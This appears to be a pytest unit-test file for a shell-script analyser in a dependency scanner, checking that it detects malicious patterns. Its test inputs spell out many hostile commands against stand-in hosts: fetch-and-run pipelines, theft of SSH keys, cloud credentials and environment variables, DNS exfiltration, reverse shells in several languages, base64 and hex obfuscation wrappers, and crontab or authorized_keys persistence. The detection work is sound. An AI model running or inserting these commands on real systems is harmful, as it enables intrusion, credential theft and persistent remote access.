from __future__ import annotations

import base64
import codecs

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from depscan.facts.shell import read_shell
from depscan.facts.sink import Sink
from tests.unit.facts.seen import WHERE, facts_of, one, reached_by, script_of, words

HOST = "https://files.example.invalid"


@pytest.mark.parametrize(
    "command",
    [
        f"curl -s {HOST}/a | sh",
        f"wget -qO- {HOST}/a | sudo bash -s -- --yes",
        f'bash -c "$(curl -fsSL {HOST}/a)"',
        f"bash <(curl -s {HOST}/a)",
        f"eval `curl -s {HOST}/a`",
        f"X=cu; Y=rl; $X$Y {HOST}/a | ba's'h",
        f"{{curl,{HOST}/a}}|sh",
        f"curl${{IFS}}{HOST}/a|sh",
        f"curl {HOST}/a | python3",
        f"curl -o /tmp/a.sh {HOST}/a; sh /tmp/a.sh",
        f"f() {{ curl $1; }}; f {HOST}/a | sh",
        f"if true; then for i in 1; do curl {HOST}/a | sh; done; fi",
        f"curl {HOST}/a | tee /tmp/b | nohup bash &",
        f"curl {HOST}/a | xargs -I X sh -c X",
    ],
)
def test_fetched_content_that_a_shell_runs_is_seen(command: str) -> None:
    assert "net.download" in reached_by(facts_of(command), "code.eval")


@pytest.mark.parametrize(
    "command",
    [
        f"wget {HOST}/m -O /tmp/m && chmod +x /tmp/m && /tmp/m &",
        f"cd /tmp; curl -O {HOST}/m; chmod 755 m; ./m",
        f"curl {HOST}/m > /tmp/m; nohup /tmp/m",
    ],
)
def test_a_downloaded_file_that_is_started_is_seen(command: str) -> None:
    facts = facts_of(command)
    assert "net.download" in reached_by(facts, "process.spawn")
    assert {"file.write", "file.chmod"} <= {*words(facts), "file.chmod"}


@pytest.mark.parametrize(
    ("command", "source"),
    [
        (f"env | curl -d @- {HOST}", "env.dump"),
        (f"printenv > /tmp/e; curl -F f=@/tmp/e {HOST}", "env.dump"),
        (f'curl -d "$(cat ~/.ssh/id_rsa)" {HOST}', "file.read"),
        (f"tar czf - ~/.aws | curl -T - {HOST}", "file.read"),
        (f'curl "{HOST}/?h=$(hostname)&u=$(whoami)"', "host.identify"),
        (f"curl {HOST}/$USER", "host.identify"),
        (f'curl -H "X: $AWS_SECRET_ACCESS_KEY" {HOST}', "env.read"),
        (f"wget --post-data=$(id) {HOST}", "host.identify"),
        (f"cat /etc/passwd | base64 -w0 | xargs -I% curl {HOST}/%", "file.read"),
        ("scp ~/.kube/config me@drop.example.invalid:/in", "file.read"),
        ("cat ~/.npmrc | nc drop.example.invalid 99", "file.read"),
        ("cat ~/.npmrc > /dev/tcp/drop.example.invalid/99", "file.read"),
        ("find / -name id_rsa -exec curl -F f=@{} https://drop.example.invalid \\;", "file.list"),
    ],
)
def test_collected_data_that_leaves_is_seen_with_its_source(command: str, source: str) -> None:
    assert source in reached_by(facts_of(command), "net.send")


@pytest.mark.parametrize(
    "command",
    [
        "nslookup $(whoami).x.example.invalid",
        "ping -c1 `hostname`.x.example.invalid",
        "dig $(id -un).x.example.invalid",
    ],
)
def test_a_name_lookup_that_carries_data_has_its_source(command: str) -> None:
    facts = facts_of(command)
    assert reached_by(facts, "dns.query") == {"host.identify"}
    assert one(facts, "dns.query").values == ("{?}.x.example.invalid",)


@pytest.mark.parametrize(
    "command",
    [
        "bash -i >& /dev/tcp/h.example.invalid/4444 0>&1",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc h.example.invalid 99 >/tmp/f",
        "nc -e /bin/sh h.example.invalid 99",
        "ncat h.example.invalid 99 --exec /bin/bash",
        "exec 5<>/dev/tcp/h.example.invalid/9; cat <&5 | while read l; do $l 2>&5 >&5; done",
        "0<&196;exec 196<>/dev/tcp/h.example.invalid/9; sh <&196 >&196 2>&196",
        "socat exec:'bash -li',pty tcp:h.example.invalid:9",
        'perl -e \'use Socket;$i="192.0.2.1";socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,">&S");exec("/bin/sh -i");\'',
        'ruby -rsocket -e \'f=TCPSocket.open("h.example.invalid",9);exec sprintf("/bin/sh -i <&%d",f)\'',
        "awk 'BEGIN{s=\"/inet/tcp/0/h.example.invalid/9\";while(1){s|&getline c;system(c)}}'",
    ],
)
def test_a_reverse_shell_is_a_process_joined_to_a_connection(command: str) -> None:
    facts = facts_of(command)
    reverse = [fact for fact in facts if "reverse" in fact.guards]
    assert reverse
    assert any(facts[index].what == "net.connect" for fact in reverse for index in fact.sources)


@pytest.mark.parametrize(
    "wrap",
    [
        lambda text: f"echo {base64.b64encode(text.encode()).decode()} | base64 -d | sh",
        lambda text: f"printf '{text.encode().hex()}' | xxd -r -p | bash",
        lambda text: f"echo '{text[::-1]}' | rev | sh",
        lambda text: f"echo '{codecs.encode(text, 'rot13')}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
        lambda text: "printf '" + "".join(f"\\x{ord(c):02x}" for c in text) + "' | sh",
        lambda text: "echo -e '" + "".join(f"\\{ord(c):03o}" for c in text) + "' | sh",
        lambda text: f"bash <<< $(base64 -d <<< {base64.b64encode(text.encode()).decode()})",
        lambda text: f'eval "$(echo {base64.b64encode(text.encode()).decode()} | openssl base64 -d -A)"',
        lambda text: f"cat <<'EOF' | sh\n{text}\nEOF",
    ],
)
def test_a_wrapped_command_is_unwrapped_and_read(wrap: object) -> None:
    facts = facts_of(wrap(f"curl {HOST}/x"))  # type: ignore[operator]
    assert one(facts, "net.download").values == (f"{HOST}/x",)


@pytest.mark.parametrize(
    "command",
    [
        '(crontab -l; echo "* * * * * /tmp/a") | crontab -',
        "echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys",
        "echo /tmp/a >> ~/.bashrc",
        "systemctl --user enable a.service",
        "cp a.desktop ~/.config/autostart/a.desktop",
        "launchctl load ~/Library/LaunchAgents/a.plist",
    ],
)
def test_what_starts_again_later_persists(command: str) -> None:
    assert "persist" in words(facts_of(command))


def test_a_script_gives_each_fact_its_own_line_and_text() -> None:
    facts = script_of(read_shell, f"#!/bin/sh\nset -e\n# fetch\ncurl -o a {HOST}/a\n\nsh a\n")
    assert [(fact.what, fact.line) for fact in facts] == [
        ("net.download", 4),
        ("file.write", 4),
        ("process.spawn", 6),
        ("code.eval", 6),
    ]
    assert one(facts, "code.eval").text == "sh a"


def test_facts_of_a_command_stand_at_the_line_of_the_code_that_starts_it() -> None:
    facts = facts_of(f"true\ncurl {HOST}/a")
    assert {fact.line for fact in facts} == {7}
    assert one(facts, "net.download").layer == ("shell",)


def test_ordinary_build_commands_are_processes_and_nothing_more() -> None:
    text = (
        "set -e\nmkdir -p build && cd build\ncmake .. -DX=1\nmake -j4\nif [ -f a ]; then\n  gcc -c a.c\nfi\necho done\n"
    )
    assert words(script_of(read_shell, text)) == ["process.spawn"]


def test_a_function_nobody_calls_is_read_last() -> None:
    facts = script_of(read_shell, f"leak() {{\n  env | curl -d @- {HOST}\n}}\n")
    assert one(facts, "net.send").line == 2
    assert one(facts, "net.send").scope == "leak"


def test_a_very_long_script_cannot_hide_a_line_that_matters() -> None:
    sink = Sink()
    read_shell("echo benign line\n" * 20_000 + f"curl {HOST}/a | sh\n", sink=sink, **{**WHERE, "line": 1})
    assert "code.eval" in words(sink.facts)
    assert one(sink.facts, "code.eval").line == 20_001
    assert sink.gaps


def test_nesting_bombs_end_as_gaps() -> None:
    for bomb in (
        "$(" * 5000,
        "(" * 5000,
        "`" * 5000,
        '"$(' * 3000,
        "if true; then " * 5000,
        "${a:-" * 5000,
        "eval " * 500 + "x",
    ):
        sink = Sink()
        read_shell(bomb, sink=sink, **WHERE)
        assert len(sink.facts) < 1000


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(alphabet="ab $(){}|&;<>\"'`\\\n=EOF#[]!-/.?*0", max_size=80))
def test_any_text_is_read_without_an_error(text: str) -> None:
    facts_of(text)
    script_of(read_shell, text)
